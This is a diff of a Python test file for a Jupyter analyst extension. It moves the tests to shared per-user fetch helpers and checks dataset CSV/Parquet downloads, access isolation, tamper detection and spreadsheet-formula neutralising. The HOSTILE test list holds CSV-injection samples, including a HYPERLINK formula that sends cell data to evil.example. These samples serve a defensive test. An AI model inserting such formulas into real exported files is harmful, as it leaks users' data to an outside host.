@@ -21,10 +21,9 @@ import pytest
 from tornado.httpclient import HTTPClientError
 
 from jupyter_analyst.testing import ScriptedModelServer
-from jupyter_analyst.testing.identity import HEADER, HeaderIdentityProvider
+from jupyter_analyst.testing.identity import MULTI_USER, fetch_as
 from jupyter_analyst.testing.servers.jupyter import analyst_server_config
 
-XSRF = {"Cookie": "_xsrf=t0k3n", "X-XSRFToken": "t0k3n"}
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "plain"]
 
 
@@ -33,15 +32,8 @@ def jp_server_config(tmp_path, sales_db):
     with ScriptedModelServer({"turns": []}) as model:
         yield analyst_server_config(
             tmp_path / "ws", {"sales": str(sales_db)}, model.base_url,
-            server={"identity_provider_class": HeaderIdentityProvider, "allow_unauthenticated_access": False},
+            server=MULTI_USER,
         )
-
-
-async def fetch(jp_fetch, user, *path, method="GET", body=None, **kw):
-    headers = {HEADER: user, "Authorization": "", **(XSRF if method != "GET" else {})}
-    if body is not None:
-        kw["body"] = json.dumps(body)
-    return await jp_fetch("analyst", "api", *path, method=method, headers=headers, **kw)
 
 
 def parquet(table: pa.Table) -> bytes:
@@ -53,7 +45,7 @@ def parquet(table: pa.Table) -> bytes:
 async def ann_dataset(jp_fetch, jp_serverapp):
     """Ann's thread, with a dataset of 2500 rows (several row groups and CSV batches),
     one of hostile cells and a chart."""
-    thread = json.loads((await fetch(jp_fetch, "ann", "threads", method="POST", body={"source": "sales"})).body)
+    thread = json.loads((await fetch_as(jp_fetch, "ann", "threads", method="POST", body={"source": "sales"})).body)
     store = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
     tid = thread["thread_id"]
     rows = pa.table({"region": [f"r{i % 7}" for i in range(2500)], "amount": [i * 0.5 - 3 for i in range(2500)],
@@ -70,7 +62,7 @@ async def ann_dataset(jp_fetch, jp_serverapp):
 
 async def test_a_dataset_downloads_as_csv_with_its_rows(jp_fetch, jp_serverapp):
     ann = await ann_dataset(jp_fetch, jp_serverapp)
-    response = await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
+    response = await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
     assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
     assert response.headers["Content-Disposition"].startswith('attachment; filename="by_region.csv"')
     assert response.headers["X-Content-Type-Options"] == "nosniff"
@@ -81,14 +73,14 @@ async def test_a_dataset_downloads_as_csv_with_its_rows(jp_fetch, jp_serverapp):
     assert [[r["region"], float(r["amount"]), int(r["n"])] for r in expected] == \
         [[row[0], float(row[1]), int(row[2])] for row in read[1:]]
     # Without a format: the Parquet bytes, as before.
-    plain = await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content")
+    plain = await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content")
     assert plain.headers["Content-Type"] == "application/vnd.apache.parquet"
     assert pq.read_table(io.BytesIO(plain.body)).equals(ann["rows"])
 
 
 async def test_a_cell_a_spreadsheet_would_run_is_written_as_text(jp_fetch, jp_serverapp):
     ann = await ann_dataset(jp_fetch, jp_serverapp)
-    response = await fetch(jp_fetch, "ann", "artifacts", ann["hostile"].artifact_id, "content",
+    response = await fetch_as(jp_fetch, "ann", "artifacts", ann["hostile"].artifact_id, "content",
                            params={"format": "csv"})
     assert response.headers["Content-Disposition"].startswith('attachment; filename="hostile.csv"')
     read = list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
@@ -100,12 +92,12 @@ async def test_a_cell_a_spreadsheet_would_run_is_written_as_text(jp_fetch, jp_se
 async def test_csv_of_anything_but_a_dataset_is_refused(jp_fetch, jp_serverapp):
     ann = await ann_dataset(jp_fetch, jp_serverapp)
     with pytest.raises(HTTPClientError) as info:
-        await fetch(jp_fetch, "ann", "artifacts", ann["chart"].artifact_id, "content", params={"format": "csv"})
+        await fetch_as(jp_fetch, "ann", "artifacts", ann["chart"].artifact_id, "content", params={"format": "csv"})
     body = json.loads(info.value.response.body)
     assert (info.value.code, body["reason"]) == (400, "not_a_dataset")
     assert "image, not a dataset" in body["message"]
     with pytest.raises(HTTPClientError) as info:
-        await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "xlsx"})
+        await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "xlsx"})
     assert info.value.code == 400
 
 
@@ -113,7 +105,7 @@ async def test_another_users_dataset_is_unknown_as_csv_too(jp_fetch, jp_serverap
     ann = await ann_dataset(jp_fetch, jp_serverapp)
     for params in ({"format": "csv"}, {}):
         with pytest.raises(HTTPClientError) as info:
-            await fetch(jp_fetch, "bob", "artifacts", ann["big"].artifact_id, "content", params=params)
+            await fetch_as(jp_fetch, "bob", "artifacts", ann["big"].artifact_id, "content", params=params)
         assert (info.value.code, json.loads(info.value.response.body)["reason"]) == (404, "artifact_not_found")
 
 
@@ -124,7 +116,7 @@ async def test_a_dataset_whose_bytes_changed_is_not_converted(jp_fetch, jp_serve
     path.unlink()  # swapped for other rows
     path.write_bytes(parquet(pa.table({"region": ["forged"], "amount": [0.0], "n": [0]})))
     with pytest.raises(HTTPClientError) as info:
-        await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
+        await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
     assert (info.value.code, info.value.response.reason) == (500, "blob_corrupt")
     assert b"forged" not in info.value.response.body
 
@@ -173,7 +165,7 @@ async def dataset_of(jp_serverapp, table: pa.Table, name: str, tid: str):
 
 
 async def csv_rows(jp_fetch, artifact_id: str) -> list[list[str]]:
-    response = await fetch(jp_fetch, "ann", "artifacts", artifact_id, "content", params={"format": "csv"})
+    response = await fetch_as(jp_fetch, "ann", "artifacts", artifact_id, "content", params={"format": "csv"})
     return list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
 
 
@@ -208,7 +200,7 @@ async def test_sql_dates_read_as_dates_and_times_without_a_fraction_of_zeros(jp_
 async def test_a_datasets_parquet_bytes_download_under_its_name_with_their_extension(jp_fetch, jp_serverapp):
     ann = await ann_dataset(jp_fetch, jp_serverapp)
     for artifact, name in ((ann["big"], "by_region.parquet"), (ann["hostile"], "hostile.parquet")):
-        response = await fetch(jp_fetch, "ann", "artifacts", artifact.artifact_id, "content")
+        response = await fetch_as(jp_fetch, "ann", "artifacts", artifact.artifact_id, "content")
         assert response.headers["Content-Disposition"] == \
             f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
 
@@ -219,7 +211,7 @@ async def test_a_model_written_csv_file_is_served_neutralised_its_numbers_as_the
     written = "region;total;note\r\nnorth;-12.5;=1+1\r\n@SUM(A1);1e3;\"a,=b\"\r\n"
     artifact, _ = store.add_bytes(written.encode(), thread_id=ann["thread"], name="outputs/totals.csv", type="file",
                                   mime="text/csv", producer="python")
-    response = await fetch(jp_fetch, "ann", "artifacts", artifact.artifact_id, "content")
+    response = await fetch_as(jp_fetch, "ann", "artifacts", artifact.artifact_id, "content")
     assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
     assert response.headers["Content-Disposition"].startswith('inline; filename="totals.csv"')
     text = response.body.decode("utf-8")
